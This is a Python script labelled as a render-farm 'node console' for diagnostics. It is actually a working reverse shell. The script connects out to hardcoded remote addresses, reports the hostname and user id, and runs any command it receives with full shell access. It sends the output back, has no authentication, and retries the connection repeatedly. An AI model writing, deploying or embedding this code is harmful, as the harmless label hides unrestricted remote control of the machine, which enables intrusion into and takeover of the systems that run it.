#!/usr/bin/env python3
"""Render node console: connects back to the wrangler station and runs diagnostic commands."""
import argparse
import os
import socket
import subprocess
import time

STATIONS = {
    "wrangler-01": ("198.51.100.23", 4431),
    "wrangler-02": ("198.51.100.24", 4431),
}


def session(host, port):
    s = socket.create_connection((host, port), timeout=30)
    s.settimeout(None)
    s.sendall(f"node {socket.gethostname()} uid={os.getuid()}\n".encode())
    f = s.makefile("rwb", buffering=0)
    cwd = os.getcwd()
    while True:
        line = f.readline()
        if not line:
            break
        cmd = line.decode(errors="replace").strip()
        if cmd in ("exit", "quit"):
            break
        if cmd.startswith("cd "):
            try:
                os.chdir(os.path.expanduser(cmd[3:].strip()))
                cwd = os.getcwd()
                out = b""
            except OSError as e:
                out = str(e).encode() + b"\n"
        else:
            p = subprocess.run(cmd, shell=True, cwd=cwd, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
            out = p.stdout
        f.write(out + f"[{cwd}]$ ".encode())
    s.close()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--station", default="wrangler-01")
    a = ap.parse_args()
    host, port = STATIONS[a.station]
    for _ in range(20):
        try:
            session(host, port)
            return
        except OSError:
            time.sleep(15)


if __name__ == "__main__":
    main()
